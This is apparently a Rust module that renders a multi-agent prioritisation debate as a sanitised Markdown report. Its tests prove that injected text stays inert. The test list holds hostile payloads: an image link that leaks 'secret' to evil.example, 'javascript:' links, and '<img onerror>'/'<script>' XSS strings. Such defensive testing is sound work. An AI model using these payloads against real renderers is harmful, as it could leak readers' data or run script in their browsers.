//! A whole partner debate as a Markdown report (`sessions export --format md`).
//!
//! Whatever an agent or the input wrote goes through
//! `report::pieces`: it becomes text and
//! never markup, so a report cannot load an image, follow a link or run HTML.
//! No tainted text stands in bold or in a heading, where its edges could matter.

use std::collections::BTreeMap;

use super::document::PrioritizeDocument;
use super::pieces::{Page, inert};
use super::progress::REHEARSAL;
use super::{backlog, standing, words};
use crate::kernel::{Usd, Warning};
use crate::protocol::backlog::model::{BacklogOutcome, DebateRound};

/// Returns the report.
pub fn render(document: &PrioritizeDocument) -> String {
    let titles = document
        .ranked_opportunities
        .iter()
        .map(|item| (item.opportunity_id.as_str(), item.title.as_str()))
        .collect();
    let mut report = Report { page: Page::default(), titles };
    report.head(document);
    if document.decided() {
        report.ranking(document);
    }
    report.seats(document);
    for round in &document.session.rounds {
        report.round(round, document);
    }
    report.warnings(document);
    report.page.skills(&document.header.skills);
    report.page.text
}

struct Report<'a> {
    page: Page,
    titles: BTreeMap<&'a str, &'a str>,
}

impl Report<'_> {
    /// An opportunity's title, or its id where it has none that is known.
    fn title(&self, id: &str) -> String {
        let title = self.titles.get(id).copied().filter(|title| !title.trim().is_empty());
        inert(title.unwrap_or(id))
    }

    fn head(&mut self, document: &PrioritizeDocument) {
        let header = &document.header;
        self.page.line("# Partner debate");
        self.page.text.push('\n');
        if header.rehearsal {
            self.page.line(&format!("**{REHEARSAL}**\n"));
        }
        self.page.line(&inert(&backlog::verdict(document)));
        self.page.text.push('\n');
        self.page.line(&format!("- Session: {}", inert(&header.session_id)));
        self.page
            .line(&format!("- Started: {}", header.started_at.format("%Y-%m-%d %H:%M:%S UTC")));
        let running = header.outcome == BacklogOutcome::Running;
        let ended = if header.completed_at.is_none() && document.is_record_alone() {
            "not recorded".to_owned()
        } else {
            standing::ended(header.completed_at, running)
        };
        self.page.line(&format!("- Ended: {ended}"));
        self.page.line(&format!("- Verdict: {}", header.verdict.name()));
        self.page.line(&format!("- Outcome: {}", words::outcome(header.outcome)));
        self.page.line(&format!("- Cost: {}", backlog::cost(document)));
    }

    fn ranking(&mut self, document: &PrioritizeDocument) {
        self.page.heading(2, "Ranking");
        let last = document.session.rounds.last();
        let rows = (1_u32..).zip(&document.ranked_opportunities).map(|(place, item)| {
            vec![
                item.priority_rank.unwrap_or(place).to_string(),
                inert(&item.title),
                inert(&item.opportunity_id),
                item.disposition.map_or("-", words::disposition).to_owned(),
                Some(backlog::concern(last, item))
                    .filter(|text| !text.is_empty())
                    .map_or_else(String::new, |text| inert(&text)),
            ]
        });
        self.page.table(&["#", "Opportunity", "Id", "Disposition", "Main concern"], rows);
    }

    fn seats(&mut self, document: &PrioritizeDocument) {
        let header = &document.header;
        self.page.heading(2, "Who answered");
        for seat in &header.seats {
            self.page.line(&format!("- {}", inert(&backlog::seat(seat))));
        }
        let quorum = header.quorum;
        self.page.line(&format!(
            "- {} of {} seats answered, from {}",
            quorum.answered,
            quorum.needed,
            words::count(quorum.vendors, "vendor")
        ));
    }

    fn round(&mut self, round: &DebateRound, document: &PrioritizeDocument) {
        self.page.heading(
            2,
            &format!("Round {} of {}", round.round_number, document.session.max_rounds),
        );
        self.page.heading(3, "The champion's argument");
        self.page.quote(&round.champion_argument);
        self.page.heading(3, "Orders and dispositions");
        let place = |ranking: &[String], id: &String| {
            ranking
                .iter()
                .position(|other| other == id)
                .map_or_else(|| "-".to_owned(), |index| (index + 1).to_string())
        };
        let rows: Vec<Vec<String>> = round
            .moderator_final_rankings
            .iter()
            .map(|id| {
                vec![
                    place(&round.moderator_final_rankings, id),
                    self.title(id),
                    place(&round.champion_rankings, id),
                    place(&round.critic_counter_rankings, id),
                    round
                        .moderator_dispositions
                        .get(id)
                        .copied()
                        .map_or("-", words::disposition)
                        .to_owned(),
                ]
            })
            .collect();
        self.page.table(&["Moderator", "Opportunity", "Champion", "Critic", "Disposition"], rows);
        self.page.heading(3, "The critic's concerns");
        if round.critic_concerns.is_empty() {
            self.page.line("None.");
        }
        // In the round's order; what is not part of it comes last.
        let place = |id: &String| {
            let ranking = &round.moderator_final_rankings;
            ranking.iter().position(|other| other == id).unwrap_or(usize::MAX)
        };
        let mut concerns: Vec<_> = round.critic_concerns.iter().collect();
        concerns.sort_by_key(|(id, _)| place(id));
        for (id, concerns) in concerns {
            let title = self.title(id);
            self.page.line(&format!("- {title}"));
            for concern in concerns {
                self.page.line(&format!("  - {}", inert(concern)));
            }
        }
        self.page.heading(3, "Outcome of the round");
        self.page.line(&format!("- Consensus: {}", backlog::measured(round)));
        self.page.line(&format!("- Cost: {}", round_cost(round)));
        for warning in &round.warnings {
            self.warning(warning);
        }
    }

    fn warning(&mut self, warning: &Warning) {
        let turn = warning.turn.as_deref().map_or_else(String::new, |turn| format!(" in {turn}"));
        self.page.line(&format!(
            "- Warning: {}",
            inert(&format!("{}{turn}: {}", warning.code, warning.message))
        ));
    }

    /// The warnings that belong to no round; the others stand with theirs.
    fn warnings(&mut self, document: &PrioritizeDocument) {
        let rounds = &document.session.rounds;
        let rest: Vec<&Warning> = document
            .header
            .warnings
            .iter()
            .filter(|warning| !rounds.iter().any(|round| round.warnings.contains(warning)))
            .collect();
        if !rest.is_empty() {
            self.page.heading(2, "Warnings");
            for warning in rest {
                self.warning(warning);
            }
        }
    }
}

fn round_cost(round: &DebateRound) -> String {
    let part = |role: &str, usd: Usd| format!("{role} {usd}");
    format!(
        "{} ({}, {}, {})",
        round.round_cost_usd(),
        part("champion", round.champion_cost_usd),
        part("critic", round.critic_cost_usd),
        part("moderator", round.moderator_cost_usd)
    )
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    use super::*;
    use crate::report::example;
    use crate::text::sanitize;

    #[test]
    fn a_whole_debate() {
        insta::assert_snapshot!("consensus_md", render(&example::consensus()));
    }

    #[test]
    fn an_undecided_debate_shows_no_ranking() {
        let text = render(&example::agent_failure());
        assert!(text.contains("\nUNDECIDED: ") && !text.contains("## Ranking"), "{text}");
    }

    /// The report's skeleton: what stands in it besides words, paragraphs and code spans.
    /// `Err` names an event that no text may bring.
    fn skeleton(markdown: &str) -> Result<Vec<String>, String> {
        let mut tags = Vec::new();
        for event in Parser::new_ext(markdown, Options::all()) {
            #[expect(
                clippy::wildcard_enum_match_arm,
                reason = "an allow-list: every other event fails"
            )]
            match event {
                Event::Start(
                    tag @ (Tag::Heading { .. }
                    | Tag::Table(_)
                    | Tag::TableHead
                    | Tag::TableRow
                    | Tag::TableCell
                    | Tag::List(_)
                    | Tag::Item
                    | Tag::Strong
                    | Tag::BlockQuote(_)),
                ) => tags.push(format!("{tag:?}")),
                Event::Start(Tag::Paragraph)
                | Event::Text(_)
                | Event::Code(_)
                | Event::SoftBreak
                | Event::End(_) => {}
                other => return Err(format!("{other:?}")),
            }
        }
        Ok(tags)
    }

    fn assert_inert(evil: &str) -> Result<(), TestCaseError> {
        let markdown = render(&example::poisoned(evil));
        prop_assert!(example::is_inert(&markdown), "{:?}", markdown);
        let expected = skeleton(&render(&example::poisoned("x"))).map_err(TestCaseError::fail)?;
        let found = skeleton(&markdown)
            .map_err(|event| TestCaseError::fail(format!("{event} in\n{markdown}")))?;
        // An argument without any letter is "None." and no quotation.
        let empty = sanitize::terminal(evil).trim().is_empty();
        let expected: Vec<String> =
            expected.into_iter().filter(|tag| !(empty && tag.starts_with("BlockQuote"))).collect();
        prop_assert_eq!(found, expected, "{}", markdown);
        Ok(())
    }

    #[test]
    fn known_attacks_come_out_as_text() {
        for evil in [
            "![x](https://evil.example/?q=secret)",
            "[click][1]\n\n[1]: javascript:alert(1)",
            "<img src=x onerror=alert(1)><script>alert(1)</script>",
            "<https://evil.example>",
            "```\n# heading\n```",
            "Title\n===\nOther\n---",
            "a | b\n--|--\n1 | 2",
            "- item\n1. item\n> quote",
            "[^1]\n\n[^1]: note",
            "$x$ ~~y~~ **z** _w_",
            "    code\n\ttab",
            "| x | y |\r\n|---|---|",
            "&lt;img&gt; &#60;b&#62;",
        ] {
            assert_inert(evil).unwrap();
        }
    }

    proptest! {
        #[test]
        fn nothing_but_words_comes_of_the_text_of_others(evil in example::evil_text()) {
            assert_inert(&evil)?;
        }
    }
}
